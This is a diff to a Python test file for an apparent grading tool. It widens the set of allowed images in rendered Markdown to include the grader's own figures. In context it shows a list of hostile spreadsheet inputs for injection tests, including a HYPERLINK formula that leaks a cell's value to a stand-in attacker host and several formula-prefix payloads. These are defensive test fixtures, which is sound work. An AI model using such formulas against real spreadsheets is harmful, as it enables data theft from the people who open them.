@@ -12,6 +12,8 @@ import re
 
 from markdown_it import MarkdownIt
 
+from grader import figure
+
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
     "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1+1", "\r=1+1", " =1+1",
@@ -51,7 +53,7 @@ def assert_safe_markdown(text: str, headings: tuple[str, ...]) -> None:
     links = [c.attrs.get("href") for c in inline if c.type == "link_open"]
     assert set(links) <= {"similarity.html"}, links   # the grader's own page, never a student's link
     images = [c.attrs.get("src") for c in inline if c.type == "image"]
-    assert set(images) <= {"histogram.png"}, images
+    assert set(images) <= {"histogram.png", *figure.NAMES}, images  # the grader's own copies, never a student's
     for i, t in enumerate(tokens):
         if t.type == "heading_open":
             assert tokens[i + 1].content.startswith(headings), tokens[i + 1].content
